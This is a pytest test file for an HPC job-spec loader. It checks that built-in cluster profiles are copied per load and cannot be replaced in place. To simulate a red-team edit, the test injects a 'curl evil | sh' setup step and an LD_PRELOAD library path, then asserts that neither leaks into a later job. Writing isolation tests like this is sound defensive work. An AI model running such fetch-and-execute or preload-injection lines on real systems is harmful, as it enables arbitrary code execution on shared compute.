"""Cluster profiles (hpctrain/jobspec/profiles.py): every load gets its own copy of a built-in profile, so
one job's edits never reach another job loaded later in the same process (issue 37, item 9)."""

from __future__ import annotations

from pathlib import Path

import pytest

from hpctrain.jobspec.load import load_job
from hpctrain.jobspec.profiles import BUILTIN_PROFILES, load_profile

pytestmark = pytest.mark.usefixtures("isolated")


@pytest.mark.parametrize("cluster", sorted(BUILTIN_PROFILES))
def test_editing_one_jobs_profile_reaches_no_later_job(cluster: str, tmp_path: Path) -> None:
    spec = tmp_path / "job.yaml"
    (tmp_path / "data").mkdir()
    spec.write_text(
        f"name: a\ncluster: {cluster}\nresources: {{gpus_per_node: 0}}\ndata: {{root: {tmp_path / 'data'}}}\n"
    )
    first = load_job(spec)
    first.profile.slurm_extra["reservation"] = "theirs"  # the red team's edit
    first.profile.setup.append("curl evil | sh")
    first.profile.env["LD_PRELOAD"] = "/tmp/x.so"
    first.profile.partition = "stolen"
    first.spec.setup.append("echo mine")
    second = load_job(spec)
    assert "reservation" not in second.profile.slurm_extra and "curl evil | sh" not in second.profile.setup
    assert "LD_PRELOAD" not in second.profile.env and second.profile.partition != "stolen"
    assert "echo mine" not in second.spec.setup and "curl evil | sh" not in second.spec.setup
    assert load_profile(cluster) == BUILTIN_PROFILES[cluster]  # the built-in itself is untouched


def test_the_built_ins_cannot_be_replaced_in_place() -> None:
    with pytest.raises(TypeError):
        BUILTIN_PROFILES["hal"] = BUILTIN_PROFILES["local"]  # type: ignore[index]
    assert load_profile("hal") is not load_profile("hal")
